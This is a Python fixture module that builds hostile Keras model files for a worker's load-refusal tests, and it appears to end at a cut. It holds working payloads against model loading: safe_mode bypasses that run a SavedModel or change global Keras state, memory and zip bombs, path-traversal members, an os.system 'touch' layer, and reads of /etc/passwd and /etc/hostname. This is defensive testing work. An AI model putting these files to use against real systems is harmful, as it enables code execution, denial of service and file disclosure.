"""Hostile Keras model files, for tests of what a worker refuses to load.

Each builder writes one file that is a small, valid-looking image model (Input (16, 16, 3) -> Conv2D ->
GlobalAveragePooling2D -> Dense, laid out exactly as Keras 3.15.1 or tf_keras 2.21 writes it) with exactly one
hostile change taken from a public class of attack on Keras model loading: references to Keras-exported callables
that run code or change process state (the `TFSMLayer` and `keras.config` setter bypasses of `safe_mode`),
allocation bombs (a huge layer, a huge declared HDF5 dataset), zip tricks (a deflate bomb, overlapping members,
path traversal), HDF5 external storage, links and virtual datasets, and a file path in a lookup layer's vocabulary.

Each builder's docstring says what a plain `keras.saving.load_model(path, compile=False, safe_mode=True)` of
Keras 3.15.1 does with the file (observed in a subprocess under resource limits, not just read from Keras' source).
Files that would run code write `marker` when they do. No builder ever allocates a bomb: every file stays small
and `build_all` takes a few seconds, most of it importing TensorFlow for the one SavedModel payload (built once per
marker and copied). Only `lambda_tfsm` and `tfsm_layer` import TensorFlow.
"""
from __future__ import annotations

import atexit
import io
import json
import shutil
import struct
import tempfile
import time
import zipfile
import zlib
from pathlib import Path
from typing import Callable

import h5py
import numpy as np

KERAS_VERSION = "3.15.1"
TF_KERAS_VERSION = "2.21.0"
SAVEDMODEL_DIRNAME = "payload_savedmodel"  # the SavedModel that `lambda_tfsm` and `tfsm_layer` name
OUTSIDE_H5_NAME = "outside_weights.h5"  # the second HDF5 file the external link and the virtual dataset map
BOMB_UNITS = 2 ** 28  # Dense units: a (4, 2**28) float32 kernel is 4 GiB, its bias 1 GiB more
# Float32 elements of a declared-but-unwritten dataset: exactly 4 GiB. Keras 3.15.1 refuses a dataset that declares
# *more* than 4 GiB (and over 1000 times what it stores); exactly 4 GiB passes that test and is read into memory.
SHAPE_BOMB_ELEMENTS = 2 ** 30
CONFIG_BOMB_BYTES = 64 << 20  # uncompressed size of the deflated config.json (the real attack: about 2 GB)
OVERSIZED_CONFIG_BYTES = 20 << 20
OVERLAP_MEMBERS = 8  # overlapping zip members ...
OVERLAP_KERNEL_BYTES = 128 << 20  # ... each declaring a little over this: over 1 GB in all, under 200 KB on disk

_MEMBER_TIME = (1980, 1, 1, 0, 0, 0)  # Keras writes metadata.json and config.json with zipfile's default date


# ---------------------------------------------------------------------------------------------------------------
# The clean model, as Keras 3.15.1 saves it (`keras.Model(...).save("m.keras")`).

def _policy(shared: bool = False) -> dict:
    policy = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}
    if shared:  # Keras shares one policy object between the later layers and records it so
        policy["shared_object_id"] = 140506914440656
    return policy


def _tensor(shape: list, layer: str) -> dict:
    return {"class_name": "__keras_tensor__",
            "config": {"shape": shape, "dtype": "float32", "keras_history": [layer, 0, 0]}}


def _node(shape: list, layer: str) -> dict:
    return {"args": [_tensor(shape, layer)], "kwargs": {}}


def _initializer(name: str) -> dict:
    config = {"seed": None, "input_axes": None, "output_axes": None} if name == "GlorotUniform" else {}
    return {"module": "keras.initializers", "class_name": name, "config": config, "registered_name": None}


def _keras3_config() -> dict:
    """config.json of the clean model (names: image, conv, pool, logits)."""
    layers = [
        {"module": "keras.layers", "class_name": "InputLayer",
         "config": {"batch_shape": [None, 16, 16, 3], "dtype": "float32", "sparse": False, "ragged": False,
                    "name": "image", "optional": False},
         "registered_name": None, "name": "image", "inbound_nodes": []},
        {"module": "keras.layers", "class_name": "Conv2D",
         "config": {"name": "conv", "trainable": True, "dtype": _policy(), "filters": 4, "kernel_size": [3, 3],
                    "strides": [1, 1], "padding": "valid", "data_format": "channels_last", "dilation_rate": [1, 1],
                    "groups": 1, "activation": "relu", "use_bias": True,
                    "kernel_initializer": _initializer("GlorotUniform"), "bias_initializer": _initializer("Zeros"),
                    "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
                    "kernel_constraint": None, "bias_constraint": None},
         "registered_name": None, "build_config": {"input_shape": [None, 16, 16, 3]}, "name": "conv",
         "inbound_nodes": [_node([None, 16, 16, 3], "image")]},
        {"module": "keras.layers", "class_name": "GlobalAveragePooling2D",
         "config": {"name": "pool", "trainable": True, "dtype": _policy(shared=True), "data_format": "channels_last",
                    "keepdims": False},
         "registered_name": None, "name": "pool", "inbound_nodes": [_node([None, 14, 14, 4], "conv")]},
        {"module": "keras.layers", "class_name": "Dense",
         "config": {"name": "logits", "trainable": True, "dtype": _policy(shared=True), "units": 2,
                    "activation": "linear", "use_bias": True, "kernel_initializer": _initializer("GlorotUniform"),
                    "bias_initializer": _initializer("Zeros"), "kernel_regularizer": None, "bias_regularizer": None,
                    "kernel_constraint": None, "bias_constraint": None, "quantization_config": None},
         "registered_name": None, "build_config": {"input_shape": [None, 4]}, "name": "logits",
         "inbound_nodes": [_node([None, 4], "pool")]},
    ]
    return {"module": "keras.src.models.functional", "class_name": "Functional",
            "config": {"name": "tiny", "trainable": True, "layers": layers, "input_layers": ["image", 0, 0],
                       "output_layers": ["logits", 0, 0]},
            "registered_name": "Functional", "build_config": {"input_shape": None}, "compile_config": {}}


def _values() -> dict[str, np.ndarray]:
    """The clean model's weights (any values of the right shapes)."""
    rng = np.random.default_rng(0)
    return {"conv/kernel": rng.normal(0, 0.2, (3, 3, 3, 4)).astype("<f4"), "conv/bias": np.zeros(4, "<f4"),
            "logits/kernel": rng.normal(0, 0.5, (4, 2)).astype("<f4"), "logits/bias": np.zeros(2, "<f4")}


def _keras3_weights(tweak: Callable[[h5py.File], None] | None = None) -> bytes:
    """model.weights.h5 of the clean model, laid out as Keras 3.15.1 writes it; `tweak` edits it before closing."""
    values = _values()
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as h5:
        h5.create_group("layers")
        for path, name, variables in (("layers/conv2d", "conv", ("conv/kernel", "conv/bias")),
                                      ("layers/dense", "logits", ("logits/kernel", "logits/bias")),
                                      ("layers/global_average_pooling2d", "pool", ()),
                                      ("layers/input_layer", "image", ())):
            group = h5.create_group(f"{path}/vars")
            group.attrs["name"] = name
            for index, variable in enumerate(variables):
                group[str(index)] = values[variable]
        h5.create_group("vars").attrs["name"] = "tiny"
        if tweak is not None:
            tweak(h5)
    return buffer.getvalue()


def _info(name: str, date_time=_MEMBER_TIME, compress_type: int = zipfile.ZIP_STORED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=date_time)
    info.compress_type = compress_type
    info.external_attr = 0o600 << 16  # what zipfile's open(name, "w") gives Keras' members
    return info


def _metadata() -> bytes:
    return json.dumps({"keras_version": KERAS_VERSION, "date_saved": "2026-12-06@17:03:35"}).encode()


def _write_keras(path: Path, config: dict | bytes | None = None, weights: bytes | None = None,
                 extra: tuple[tuple[str, bytes], ...] = (), config_compress: int = zipfile.ZIP_STORED) -> Path:
    """A .keras archive: metadata.json, config.json, model.weights.h5 (then `extra` members), stored as Keras does."""
    config = _keras3_config() if config is None else config
    config_bytes = config if isinstance(config, bytes) else json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(_info("metadata.json"), _metadata())
        archive.writestr(_info("config.json", compress_type=config_compress), config_bytes, compresslevel=9)
        archive.writestr(_info("model.weights.h5", time.localtime()[:6]),
                         _keras3_weights() if weights is None else weights)
        for name, data in extra:
            archive.writestr(_info(name), data)
    return path


def _layers(config: dict) -> list[dict]:
    return config["config"]["layers"]


def _layer(config: dict, name: str) -> dict:
    return next(layer for layer in _layers(config) if layer["name"] == name)


# ---------------------------------------------------------------------------------------------------------------
# References to Keras-exported callables (the safe_mode bypasses).

def reference(module: str, name: str) -> dict:
    """How a config names a Keras-exported function or class so that safe_mode=True resolves it without building it.

    `deserialize_keras_object` turns `class_name: "function"` into `_retrieve_class_or_fn(config, ...,
    obj_type="function")`, which for a `keras.*` module returns `api_export.get_symbol_from_name(f"{module}.{name}")`
    (anything Keras exports, function or class, bar the 26 names in NON_MODELING_APIS) without calling
    `from_config`: so `TFSMLayer.from_config`'s safe_mode check never runs. (What Keras itself writes for a plain
    function, `"module": "builtins"`, only finds activations, losses and the like.)
    """
    return {"module": module, "class_name": "function", "config": name, "registered_name": None}


def _lambda_layer(function: dict, value, arguments: dict | None = None) -> dict:
    """A Lambda layer, outside the model's graph, whose node calls `function(value, **arguments)` while loading.

    The node passes `value` as the keyword `inputs`: `Layer.__call__` refuses only non-tensor *positional* arguments,
    and with no tensor among its arguments the call is eager, so `Lambda.call` runs `function(value)` at once. The
    Lambda's output reaches no model output, so the rest of the model loads as if the layer were not there.
    """
    return {"module": "keras.layers", "class_name": "Lambda",
            "config": {"name": "preprocess", "trainable": True, "dtype": _policy(), "function": function,
                       "arguments": arguments or {}},
            "registered_name": None, "name": "preprocess", "inbound_nodes": [{"args": [], "kwargs": {"inputs": value}}]}


def _with_lambda(path: Path, function: dict, value, arguments: dict | None = None) -> Path:
    config = _keras3_config()
    _layers(config).insert(1, _lambda_layer(function, value, arguments))
    return _write_keras(path, config)


_PAYLOADS: dict[str, Path] = {}


def _savedmodel(folder: Path, marker: Path) -> Path:
    """folder/payload_savedmodel: a tf.Module SavedModel whose loading writes `marker`.

    Its TrackableResource's `_initialize` (a traced tf.function calling tf.io.write_file) is never run here; the
    SavedModel loader runs it when it restores the resource, whoever loads it (tf.saved_model.load, TFSMLayer).
    `serve` (float32 (None, 4) -> the same tensor) fits between the pooling and the Dense layer.
    """
    target = str(Path(marker).absolute())
    if target not in _PAYLOADS:
        import tensorflow as tf

        class Payload(tf.saved_model.experimental.TrackableResource):
            def _create_resource(self):
                return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="")

            def _initialize(self):
                tf.io.write_file(target, "written while loading a SavedModel\n")
                tf.raw_ops.AssignVariableOp(resource=self.resource_handle, value=tf.constant(0.0))

        module = tf.Module()
        module.payload = Payload()
        module.serve = tf.function(tf.identity, input_signature=[tf.TensorSpec([None, 4], tf.float32)])
        built = Path(tempfile.mkdtemp(prefix="hostile-savedmodel-"))
        atexit.register(shutil.rmtree, built, True)
        tf.saved_model.save(module, str(built / "sm"), signatures={"serving_default": module.serve})
        _PAYLOADS[target] = built / "sm"
    destination = Path(folder) / SAVEDMODEL_DIRNAME
    shutil.copytree(_PAYLOADS[target], destination, dirs_exist_ok=True)
    return destination.absolute()


def lambda_tfsm(folder: Path, marker: Path) -> Path:
    """Code execution: a Lambda whose `function` is the Keras-exported class `keras.layers.TFSMLayer`.

    `function` is `reference("keras.layers", "TFSMLayer")`, the node's value the SavedModel directory written beside
    the file, `arguments` {"call_endpoint": "serve"}. Loading calls `TFSMLayer(directory, call_endpoint="serve")`,
    whose `__init__` runs `tf.saved_model.load` (only `TFSMLayer.from_config` checks safe_mode), and the SavedModel's
    resource initializer writes `marker`. Keras 3.15.1, safe_mode=True: the marker is written and the model loads
    with no error. (The form `{"module": "keras.layers", "class_name": "TFSMLayer", "config": {...}}` as the
    function goes through `from_config` and is refused.)
    """
    savedmodel = _savedmodel(folder, marker)
    return _with_lambda(Path(folder) / "lambda_tfsm.keras", reference("keras.layers", "TFSMLayer"), str(savedmodel),
                        {"call_endpoint": "serve"})


def tfsm_layer(folder: Path, marker: Path) -> Path:
    """Code execution: a TFSMLayer between the pooling and the Dense layer, naming the SavedModel beside the file.

    With safe_mode=False (or after `enable_unsafe_deserialization()`) loading runs the SavedModel (the marker is
    written). Keras 3.15.1, safe_mode=True: refused by `TFSMLayer.from_config` ("Requested the deserialization of a
    `TFSMLayer`, which loads an external SavedModel ..."), marker not written.
    """
    savedmodel = _savedmodel(folder, marker)
    config = _keras3_config()
    layer = {"module": "keras.layers", "class_name": "TFSMLayer",
             "config": {"name": "features", "trainable": True, "dtype": _policy(shared=True),
                        "filepath": str(savedmodel), "call_endpoint": "serve", "call_training_endpoint": None},
             "registered_name": None, "build_config": {"input_shape": [None, 4]}, "name": "features",
             "inbound_nodes": [_node([None, 4], "pool")]}
    _layers(config).insert(3, layer)
    _layer(config, "logits")["inbound_nodes"] = [_node([None, 4], "features")]
    return _write_keras(Path(folder) / "tfsm_layer.keras", config)


def setter_floatx(folder: Path, marker: Path) -> Path:
    """Process state: a Lambda calling `keras.config.set_floatx("float16")` while loading.

    Keras 3.15.1, safe_mode=True: the model loads; `keras.config.floatx()` is float16 for the rest of the process,
    so whatever takes its default dtype from floatx (`keras.ops.ones`, `keras.random.*`, initializers called without
    a dtype) makes float16 tensors. (The global dtype policy was already fixed at float32 while the model's own layers
    were built, so new layers stay float32 in that process.)
    """
    return _with_lambda(Path(folder) / "setter_floatx.keras", reference("keras.config", "set_floatx"), "float16")


def setter_epsilon(folder: Path, marker: Path) -> Path:
    """Process state: a Lambda calling `keras.config.set_epsilon(1.0)` (the fuzz factor, 1e-07) while loading.

    Keras 3.15.1, safe_mode=True: the model loads; `keras.config.epsilon()` is 1.0 for the rest of the process.
    """
    return _with_lambda(Path(folder) / "setter_epsilon.keras", reference("keras.config", "set_epsilon"), 1.0)


def setter_image_data_format(folder: Path, marker: Path) -> Path:
    """Process state: a Lambda calling `keras.config.set_image_data_format("channels_first")` while loading.

    Keras 3.15.1, safe_mode=True: the model loads (its own layers say channels_last); every convolution or pooling
    layer created afterwards without an explicit data_format reads its input as channels_first (a new Conv2D on a
    (16, 16, 3) input builds a (3, 3, 16, 4) kernel, silently).
    """
    return _with_lambda(Path(folder) / "setter_image_data_format.keras",
                        reference("keras.config", "set_image_data_format"), "channels_first")


def setter_backend(folder: Path, marker: Path) -> Path:
    """Process state: a Lambda calling `keras.config.set_backend("numpy")` while loading.

    set_backend sets KERAS_BACKEND in os.environ (inherited by every child process) and deletes every `keras*`
    module from sys.modules, then re-imports Keras. Keras 3.15.1, safe_mode=True: the re-import fails here (the
    numpy backend needs scipy) and the load raises ModuleNotFoundError, but the environment variable stays changed,
    Keras is gone from sys.modules, and in that process a new model can be neither built nor loaded (both raise).
    ("jax", "torch" or "openvino" fail the same way where not installed; "tensorflow" re-imports a second copy of
    Keras silently.)
    """
    return _with_lambda(Path(folder) / "setter_backend.keras", reference("keras.config", "set_backend"), "numpy")


def setter_seed(folder: Path, marker: Path) -> Path:
    """Process state: a Lambda calling `keras.utils.set_random_seed(1234)` while loading.

    Keras 3.15.1, safe_mode=True: the model loads; Python's `random`, NumPy's global generator, TensorFlow's global
    seed and Keras' seed generator are all seeded with 1234 (every later "random" start image is the same one).
    """
    return _with_lambda(Path(folder) / "setter_seed.keras", reference("keras.utils", "set_random_seed"), 1234)


# ---------------------------------------------------------------------------------------------------------------
# Allocation bombs and oversized members.

def dense_bomb(folder: Path, marker: Path) -> Path:
    """Allocation bomb in the config: the Dense layer has 2**28 units (a 4 GiB kernel and a 1 GiB bias).

    Building the layer while loading initializes a (4, 2**28) float32 kernel. The weights file is the clean one
    (its (4, 2) kernel would not fit anyway). Keras 3.15.1, safe_mode=True: under a 6 GiB address-space limit
    TensorFlow aborts the whole process (SIGABRT) after about 30 s; under 12 GiB it reaches 8.8 GiB resident before
    raising ResourceExhaustedError.
    """
    config = _keras3_config()
    _layer(config, "logits")["config"]["units"] = BOMB_UNITS
    return _write_keras(Path(folder) / "dense_bomb.keras", config)


def consistent_dense_bomb(folder: Path, marker: Path, units: int = 2**26) -> Path:
    """An allocation bomb that is consistent with itself: the Dense layer has `units` units and the weights file
    declares its kernel and bias at exactly those shapes (chunked, never written, so the file stays small).

    Not in BUILDERS: nothing but a parameter bound can tell it from a large model, so it is what a worker whose
    FEATUREVIS_MODEL_MAX_PARAMS is set too high hands to the disposable process, whose memory limit must hold
    it (1.3 G parameters at 2**26 units: 5 GiB for the kernel, its bias and the values read for them).
    """
    config = _keras3_config()
    _layer(config, "logits")["config"]["units"] = units

    def huge(h5: h5py.File) -> None:
        group = h5["layers/dense/vars"]
        for index, shape in enumerate([(4, units), (units,)]):
            del group[str(index)]
            group.create_dataset(str(index), shape=shape, dtype="<f4", chunks=True)

    return _write_keras(Path(folder) / "consistent_dense_bomb.keras", config, _keras3_weights(huge))


def _declare_huge(group: h5py.Group, name: str) -> None:
    """A chunked float32 dataset of SHAPE_BOMB_ELEMENTS (4 GiB), never written: no chunk stored, a tiny file."""
    if name in group:
        del group[name]
    group.create_dataset(name, shape=(SHAPE_BOMB_ELEMENTS,), dtype="<f4", chunks=(1 << 20,))


def declared_shape_bomb(folder: Path, marker: Path) -> Path:
    """Allocation bomb in HDF5: model.weights.h5's `layers/dense/vars/0` declares (2**30,) float32, 4 GiB, unwritten.

    Keras reads a variable with `np.array(dataset)` (h5py's 4 GiB read, then a copy) and `Variable.assign` converts
    that to a tensor (another copy) before comparing shapes, so the declared size is allocated two or three times.
    Keras 3.15.1's guard refuses a dataset declaring more than 4 GiB and 1000 times what it stores; this one declares
    exactly 4 GiB, so it passes. Keras 3.15.1, safe_mode=True: under a 6 GiB address-space limit, MemoryError
    ("Unable to allocate 4.00 GiB") at 4.6 GiB resident; under 12 GiB, a segmentation fault inside TensorFlow.
    """
    weights = _keras3_weights(lambda h5: _declare_huge(h5["layers/dense/vars"], "0"))
    return _write_keras(Path(folder) / "declared_shape_bomb.keras", weights=weights)


def config_deflate_bomb(folder: Path, marker: Path) -> Path:
    """Decompression bomb: config.json deflated, padded with whitespace inside its outer object to 64 MiB.

    The real attack pads to about 2 GB (still valid JSON, about 2 MB deflated, and under Keras 3.15.1's
    4 GiB-and-100-times floor, so read whole and parsed); 64 MiB keeps this build fast. Keras 3.15.1,
    safe_mode=True: reads and parses all 64 MiB and loads the model (about 130 MiB more resident).
    """
    text = json.dumps(_keras3_config()).encode()
    padded = text[:1] + b" " * (CONFIG_BOMB_BYTES - len(text)) + text[1:]
    return _write_keras(Path(folder) / "config_deflate_bomb.keras", padded, config_compress=zipfile.ZIP_DEFLATED)


def oversized_config(folder: Path, marker: Path) -> Path:
    """Oversized member: a stored (uncompressed) config.json of about 20 MiB, valid JSON: the model's name is huge.

    Keras 3.15.1, safe_mode=True: reads it, loads the model, and the model's `name` is a 20 MiB string (which then
    flows into anything that logs or records the model's name).
    """
    config = _keras3_config()
    config["config"]["name"] = "tiny" + "_" * (OVERSIZED_CONFIG_BYTES - len(json.dumps(config)))
    return _write_keras(Path(folder) / "oversized_config.keras", config)


# ---------------------------------------------------------------------------------------------------------------
# Zip tricks.

def _gf2_times(matrix: list[int], vector: int) -> int:
    total, index = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[index]
        vector >>= 1
        index += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, row) for row in matrix]


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """zlib's crc32_combine: the CRC-32 of A + B from crc32(A), crc32(B) and len(B)."""
    if length2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = _gf2_square(even)
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
        if not length2:
            break
    return crc1 ^ crc2


_DOS_DATE, _DOS_TIME = (0 << 9) | (1 << 5) | 1, 0  # 1980-01-01 00:00


def _local_header(name: bytes, crc: int, compressed: int, size: int, method: int) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, _DOS_TIME, _DOS_DATE, crc, compressed, size,
                       len(name), 0) + name


def _central_header(name: bytes, crc: int, compressed: int, size: int, method: int, offset: int) -> bytes:
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, (3 << 8) | 20, 20, 0, method, _DOS_TIME, _DOS_DATE, crc,
                       compressed, size, len(name), 0, 0, 0, 0, 0o600 << 16, offset) + name


def _overlap_kernel() -> tuple[bytes, int]:
    """OVERLAP_KERNEL_BYTES zero bytes as one raw deflate stream (about 130 KB), and their CRC-32."""
    zeros = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts, crc = [], 0
    for _ in range(OVERLAP_KERNEL_BYTES >> 20):
        parts.append(compressor.compress(zeros))
        crc = zlib.crc32(zeros, crc)
    parts.append(compressor.flush())
    return b"".join(parts), crc


def overlapping_entries(folder: Path, marker: Path) -> Path:
    """Zip bomb by overlapping members (David Fifield, "A better zip bomb", 2019), built by hand with struct.

    Besides the three clean members, OVERLAP_MEMBERS members `assets/overlap_0.bin` ... share one deflate kernel
    (128 MiB of zeros in about 130 KB): member i's compressed data is a stored (uncompressed) deflate block quoting
    member i+1's local header, then member i+1's compressed data, up to the kernel at the end. Each member declares
    a little over 128 MiB, over 1 GB in all, and the file is under 200 KB. Each member stays under Keras 3.15.1's
    256 MiB extraction floor, and Python's zipfile before 3.11.8 / 3.12.2 does not check for overlapping members
    (later ones raise "Overlapped entries"). With more than three members Keras extracts the whole archive for the
    assets. Keras 3.15.1, safe_mode=True, Python 3.11.7: the model loads after writing 1 GiB to a temporary
    directory (then deleted), in about 5 s.
    """
    path = Path(folder) / "overlapping_entries.keras"
    clean = io.BytesIO()
    _write_keras(clean)
    clean_archive = zipfile.ZipFile(clean)
    out = bytearray()
    central = []
    for info in clean_archive.infolist():  # the three clean members, re-laid by hand
        name = info.filename.encode()
        data = clean_archive.read(info)
        central.append(_central_header(name, info.CRC, len(data), len(data), 0, len(out)))
        out += _local_header(name, info.CRC, len(data), len(data), 0) + data
    kernel, kernel_crc = _overlap_kernel()
    names = [f"assets/overlap_{index}.bin".encode() for index in range(OVERLAP_MEMBERS)]
    # From the last member back: its data, size and CRC, and the local header that the member before quotes.
    sizes, crcs, lengths = [OVERLAP_KERNEL_BYTES], [kernel_crc], [len(kernel)]
    headers = [_local_header(names[-1], kernel_crc, len(kernel), OVERLAP_KERNEL_BYTES, 8)]
    for name in reversed(names[:-1]):
        quoted = headers[0]
        sizes.insert(0, len(quoted) + sizes[0])
        crcs.insert(0, crc32_combine(zlib.crc32(quoted), crcs[0], sizes[1]))
        lengths.insert(0, 5 + len(quoted) + lengths[0])
        headers.insert(0, _local_header(name, crcs[0], lengths[0], sizes[0], 8))
    offset = len(out)
    for index, name in enumerate(names):
        central.append(_central_header(name, crcs[index], lengths[index], sizes[index], 8, offset))
        if index == 0:
            out += headers[0]
        if index + 1 < len(names):
            quoted = headers[index + 1]
            out += b"\x00" + struct.pack("<HH", len(quoted), len(quoted) ^ 0xFFFF) + quoted  # stored, not final
            offset = len(out) - len(quoted)
    out += kernel
    directory = b"".join(central)
    out += directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(directory),
                                   len(out), 0)
    path.write_bytes(bytes(out))
    return path


def path_traversal(folder: Path, marker: Path) -> Path:
    """Path traversal: members `../../escaped.txt`, `/tmp/abs.txt`, `assets/../../x` and `..\\..\\escaped-win.txt`.

    An extractor that joins member names to its target directory writes outside it. Keras 3.15.1 extracts the whole
    archive when it has more than three members, skipping (with a warning) every name that resolves outside its
    temporary directory; the backslash name is an ordinary file name on POSIX. Keras 3.15.1, safe_mode=True: the
    model loads, nothing is written outside the temporary directory.
    """
    extra = tuple((name, f"written from member {name}\n".encode())
                  for name in ("../../escaped.txt", "/tmp/abs.txt", "assets/../../x", "..\\..\\escaped-win.txt"))
    return _write_keras(Path(folder) / "path_traversal.keras", extra=extra)


# ---------------------------------------------------------------------------------------------------------------
# Config references outside Keras.

def unknown_module(folder: Path, marker: Path) -> Path:
    """Import of a non-Keras module: a layer `{"module": "os", "class_name": "system", "config": {"command": ...}}`.

    Were the module imported and `system` called with its config, the command would write `marker`. Keras 3.15.1,
    safe_mode=True: refused ("Could not locate class 'system'"; it imports only keras, keras_hub, keras_cv and
    keras_nlp modules, and from those only KerasSaveable subclasses).
    """
    config = _keras3_config()
    _layers(config).insert(1, {"module": "os", "class_name": "system",
                               "config": {"command": f"touch {Path(marker).absolute()}"},
                               "registered_name": None, "name": "system", "inbound_nodes": []})
    return _write_keras(Path(folder) / "unknown_module.keras", config)


def custom_registered(folder: Path, marker: Path) -> Path:
    """A custom object by registered name: layer `Evil` of module `evil_package.layers`, registered "MyPackage>Evil".

    Whatever registers that name in the loading process (any imported package) gets its `from_config` called with
    the attacker's config. Keras 3.15.1, safe_mode=True, nothing registered: refused ("Could not locate class
    'Evil'").
    """
    config = _keras3_config()
    layer = {"module": "evil_package.layers", "class_name": "Evil",
             "config": {"name": "evil", "trainable": True, "dtype": _policy(shared=True)},
             "registered_name": "MyPackage>Evil", "build_config": {"input_shape": [None, 4]}, "name": "evil",
             "inbound_nodes": [_node([None, 4], "pool")]}
    _layers(config).insert(3, layer)
    _layer(config, "logits")["inbound_nodes"] = [_node([None, 4], "evil")]
    return _write_keras(Path(folder) / "custom_registered.keras", config)


def lookup_vocabulary_path(folder: Path, marker: Path) -> Path:
    """File disclosure: a StringLookup whose `vocabulary` is the path "/etc/passwd", on a second (string) input.

    Keras (with safe_mode off) reads the file as the vocabulary, so its lines come back from `get_vocabulary()`
    and as the layer's outputs ("/proc/self/environ" would give the worker's secrets). The model has a second input
    `tag` and a second output `tag_id`. With safe_mode=False the vocabulary is the lines of /etc/passwd. Keras
    3.15.1, safe_mode=True: refused
    ("Requested the loading of a vocabulary file outside of the model archive ...").
    """
    config = _keras3_config()
    layers = _layers(config)
    layers.insert(1, {"module": "keras.layers", "class_name": "InputLayer",
                      "config": {"batch_shape": [None, 1], "dtype": "string", "sparse": False, "ragged": False,
                                 "name": "tag", "optional": False},
                      "registered_name": None, "name": "tag", "inbound_nodes": []})
    tag = {"class_name": "__keras_tensor__", "config": {"shape": [None, 1], "dtype": "string",
                                                        "keras_history": ["tag", 0, 0]}}
    layers.append({"module": "keras.layers", "class_name": "StringLookup",
                   "config": {"name": "tag_id", "trainable": True, "dtype": _policy(), "invert": False,
                              "max_tokens": None, "num_oov_indices": 1, "oov_token": "[UNK]", "mask_token": None,
                              "output_mode": "int", "sparse": False, "pad_to_max_tokens": False, "idf_weights": None,
                              "vocabulary": "/etc/passwd", "vocabulary_size": None, "oov_method": "floormod",
                              "salt": None, "encoding": "utf-8"},
                   "registered_name": None, "build_config": {}, "name": "tag_id",
                   "inbound_nodes": [{"args": [tag], "kwargs": {}}]})
    config["config"]["input_layers"] = [["image", 0, 0], ["tag", 0, 0]]
    config["config"]["output_layers"] = [["logits", 0, 0], ["tag_id", 0, 0]]
    return _write_keras(Path(folder) / "lookup_vocabulary_path.keras", config)


# ---------------------------------------------------------------------------------------------------------------
# HDF5 tricks inside model.weights.h5.

def _outside_h5(folder: Path) -> Path:
    """folder/outside_weights.h5: a second HDF5 file with a (4, 2) float32 `kernel`, for the link and the VDS."""
    path = (Path(folder) / OUTSIDE_H5_NAME).absolute()
    if not path.exists():
        with h5py.File(path, "w") as h5:
            h5["kernel"] = np.full((4, 2), 7.0, "<f4")
    return path


def _external_storage(group: h5py.Group, name: str, shape: tuple) -> None:
    """Dataset `name` whose raw data is /etc/hostname (HDF5 external storage), zero-padded past the file's end."""
    del group[name]
    group.create_dataset(name, shape=shape, dtype="<f4",
                         external=[("/etc/hostname", 0, int(np.prod(shape)) * 4)])


def hdf5_external_storage(folder: Path, marker: Path) -> Path:
    """HDF5 external storage: `layers/dense/vars/1` (the Dense bias) keeps its raw data in /etc/hostname.

    A reader that follows it loads the bytes of any local file into the weights (file disclosure through the
    model's outputs): bare h5py reads b"vm\\n" and five zero bytes here. Keras 3.15.1, safe_mode=True: refused
    ("Not allowed: H5 file with external Dataset").
    """
    weights = _keras3_weights(lambda h5: _external_storage(h5["layers/dense/vars"], "1", (2,)))
    return _write_keras(Path(folder) / "hdf5_external_storage.keras", weights=weights)


def hdf5_soft_link(folder: Path, marker: Path) -> Path:
    """HDF5 soft link: `layers/dense/vars/0` is a SoftLink to `/hidden/kernel`, a dataset outside the layer tree.

    A reader that follows soft links reads whatever the link names (another variable, or via a chain an external
    link); a checker that walks only datasets misses it. Keras 3.15.1, safe_mode=True: refused ("Not allowed: H5
    file with SoftLink").
    """
    def tweak(h5: h5py.File) -> None:
        h5["hidden/kernel"] = np.full((4, 2), 7.0, "<f4")
        del h5["layers/dense/vars/0"]
        h5["layers/dense/vars/0"] = h5py.SoftLink("/hidden/kernel")

    return _write_keras(Path(folder) / "hdf5_soft_link.keras", weights=_keras3_weights(tweak))


def hdf5_external_link(folder: Path, marker: Path) -> Path:
    """HDF5 external link: `layers/dense/vars/0` is an ExternalLink to `kernel` in folder/outside_weights.h5.

    Following it opens a file named by the model (any absolute path) outside the archive. Keras 3.15.1,
    safe_mode=True: refused ("Not allowed: H5 file with ExternalLink").
    """
    outside = _outside_h5(folder)

    def tweak(h5: h5py.File) -> None:
        del h5["layers/dense/vars/0"]
        h5["layers/dense/vars/0"] = h5py.ExternalLink(str(outside), "/kernel")

    return _write_keras(Path(folder) / "hdf5_external_link.keras", weights=_keras3_weights(tweak))


def hdf5_virtual_dataset(folder: Path, marker: Path) -> Path:
    """HDF5 virtual dataset: `layers/dense/vars/0` is a VDS mapping `kernel` of folder/outside_weights.h5.

    Reading it opens the source file named in the mapping (any absolute path). Keras 3.15.1, safe_mode=True:
    refused ("Not allowed: H5 file with virtual Dataset").
    """
    outside = _outside_h5(folder)

    def tweak(h5: h5py.File) -> None:
        layout = h5py.VirtualLayout(shape=(4, 2), dtype="<f4")
        layout[:] = h5py.VirtualSource(str(outside), "kernel", shape=(4, 2))
        del h5["layers/dense/vars/0"]
        h5["layers/dense/vars"].create_virtual_dataset("0", layout, fillvalue=0)

    return _write_keras(Path(folder) / "hdf5_virtual_dataset.keras", weights=_keras3_weights(tweak))


# ---------------------------------------------------------------------------------------------------------------
# Legacy Keras 2 HDF5 files, as tf_keras 2.21 writes them (`model.save("m.h5")`).

def _keras2_config() -> dict:
